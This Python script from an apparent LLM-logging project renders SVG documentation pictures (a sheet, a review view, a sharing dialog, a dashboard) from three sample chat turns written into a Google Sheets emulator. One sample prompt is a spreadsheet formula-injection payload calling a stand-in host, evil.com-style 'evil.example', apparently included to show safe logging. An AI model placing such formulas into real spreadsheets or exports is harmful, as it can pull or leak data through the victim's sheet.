"""Draws the pictures of docs/google_sheets_setup.md from a sheet that the real sink has written.

Run it from the top of the repository: ``python docs/draw_pictures.py``. A test compares the files
with what it draws.
"""

from __future__ import annotations

import tempfile
from collections import defaultdict
from html import escape
from pathlib import Path

from draw_tab import draw

from hilt.core.event import Actor, Content, Event, Metrics
from hilt.io.sheets.sink import SheetsSink
from hilt.testing.sheets import SheetsEmulator

PICTURES = Path(__file__).parent / "pictures"
COLUMNS = ["timestamp", "speaker", "message", "cost_usd", "latency_ms", "model", "status_code"]
TALK = [
    ("What is Python?", "A programming language that reads like English.", 0.000053, 842),
    ("And who made it?", "Guido van Rossum, in 1991.", 0.000041, 655),
    ('=IMPORTDATA("http://evil.example")', "I cannot open links.", 0.000039, 590),
]
FONT = "font-family='Arial, Helvetica, sans-serif' font-size='13'"


def events() -> list[Event]:
    """Three calls with ids and times that are the same in every run."""
    made = []
    for number, (question, answer, cost, latency) in enumerate(TALK):
        question_event = Event(
            event_id=f"evt_{2 * number:032x}",
            timestamp=f"2026-11-21T09:0{number}:00.000000Z",
            session_id="conv_a3f7d892a3f7d892",
            actor=Actor(type="human", id="user"),
            action="prompt",
            content=Content(text=question),
            extensions={"model": "gpt-4o-mini"},
        )
        answer_event = Event(
            event_id=f"evt_{2 * number + 1:032x}",
            timestamp=f"2026-11-21T09:0{number}:01.000000Z",
            session_id=question_event.session_id,
            actor=Actor(type="agent", id="openai"),
            action="completion",
            content=Content(text=answer),
            metrics=Metrics(cost_usd=cost),
            extensions={"model": "gpt-4o-mini", "latency_ms": latency, "status_code": 200},
        )
        made += [question_event, answer_event]
    return made


def pictures() -> dict[str, str]:
    """Every picture by its file's name."""
    with SheetsEmulator() as sheets, tempfile.TemporaryDirectory() as outbox:
        sheets.add_book("book")
        sink = SheetsSink(
            sheet_id="book",
            credentials_json=sheets.service_account(),
            columns=COLUMNS,
            review=True,
            outbox=outbox,
            api_root=sheets.api_root,
        )
        sink.open()
        for event in events():
            sink.write(event.encode() + b"\n", 1)
        if not sink.flush(20):
            raise RuntimeError("the sheet was not written")
        sink.close()
        plain = sheets.book().tab("Logs")
        plain.hidden_columns |= {7, 8, 9}
        sheets.type_in("book", "Logs!H3", 5, "Clear and short")
        sheets.type_in("book", "Logs!H5", 2, "Too short", "Guido van Rossum, at CWI in Amsterdam")
        reviewed = sheets.book().tab("Logs")
        reviewed.hidden_columns |= {0, 3, 4, 5, 6}
    return {
        "sheet.svg": draw(plain),
        "review.svg": draw(reviewed),
        "share.svg": share(),
        "dashboard.svg": dashboard(),
    }


def share() -> str:
    """The dialog in which a sheet is shared with the service account."""
    return svg(
        460,
        190,
        box(0, 0, 460, 190, "#ffffff", "#dadce0", 8),
        text(24, 38, 'Share "LLM log"', size=18),
        box(24, 58, 310, 38, "#ffffff", "#1a73e8", 4),
        text(34, 82, "logger@my-project.iam.gserviceaccount.com"),
        box(344, 58, 92, 38, "#ffffff", "#dadce0", 4),
        text(356, 82, "Editor ▾"),
        text(24, 126, "☐ Notify people", fill="#5f6368"),
        box(356, 138, 80, 34, "#1a73e8", "#1a73e8", 17),
        text(396, 160, "Send", fill="#ffffff", anchor="middle"),
    )


def dashboard() -> str:
    """What the dashboard's figures and charts show for the same calls, drawn and not computed."""
    done = [event for event in events() if event.metrics is not None]
    cost = sum(event.metrics.cost_usd or 0 for event in done if event.metrics)
    per_day: dict[str, float] = defaultdict(float)
    for event in done:
        per_day[event.timestamp[:10]] += (event.metrics.cost_usd or 0) if event.metrics else 0
    figures = [
        ("Calls", len(done)),
        ("Errors", 0),
        ("Error rate", "0.0%"),
        ("Cost (USD)", f"{cost:.6f}"),
    ]
    parts = [box(0, 0, 640, 300, "#ffffff", "#dadce0", 0), text(20, 34, "HILT: Logs", size=18)]
    for at, (name, value) in enumerate(figures):
        parts += [text(20 + 150 * at, 66, name, bold=True), text(20 + 150 * at, 88, str(value))]
    parts.append(text(20, 126, "Slowest calls (ms)", bold=True))
    slowest = sorted(done, key=lambda event: -(event.extensions or {})["latency_ms"])
    for at, event in enumerate(slowest):
        latency = (event.extensions or {})["latency_ms"]
        parts.append(box(20, 140 + 26 * at, latency / 4, 20, "#4285f4", "#4285f4", 0))
        parts.append(text(28 + latency / 4, 155 + 26 * at, f"{latency}"))
    parts.append(text(340, 126, "Cost per day (USD)", bold=True))
    for at, (day, spent) in enumerate(sorted(per_day.items())):
        height = 90 * spent / max(per_day.values())
        parts.append(box(350 + 90 * at, 240 - height, 60, height, "#34a853", "#34a853", 0))
        parts.append(text(380 + 90 * at, 258, day, anchor="middle"))
    parts.append(
        text(20, 286, "Drawn from the same calls; Google draws its own charts.", fill="#5f6368")
    )
    return svg(640, 300, *parts)


def svg(width: int, height: int, *parts: str) -> str:
    """An SVG document."""
    size = f"width='{width}' height='{height}' viewBox='0 0 {width} {height}'"
    head = f"<svg xmlns='http://www.w3.org/2000/svg' {size} {FONT}>"
    return "\n".join([head, *parts, "</svg>"]) + "\n"


def box(
    x: float, y: float, width: float, height: float, fill: str, stroke: str, radius: int
) -> str:
    """A rectangle."""
    place = f"x='{x:g}' y='{y:g}' width='{width:g}' height='{height:g}' rx='{radius}'"
    return f"<rect {place} fill='{fill}' stroke='{stroke}'/>"


def text(
    x: float,
    y: float,
    words: str,
    *,
    size: int = 13,
    fill: str = "#202124",
    anchor: str = "start",
    bold: bool = False,
) -> str:
    """A line of text."""
    look = f"font-size='{size}' fill='{fill}' text-anchor='{anchor}'"
    look += " font-weight='bold'" if bold else ""
    return f"<text x='{x:g}' y='{y:g}' {look}>{escape(words)}</text>"


if __name__ == "__main__":
    PICTURES.mkdir(exist_ok=True)
    for name, drawn in pictures().items():
        (PICTURES / name).write_text(drawn, encoding="utf-8")
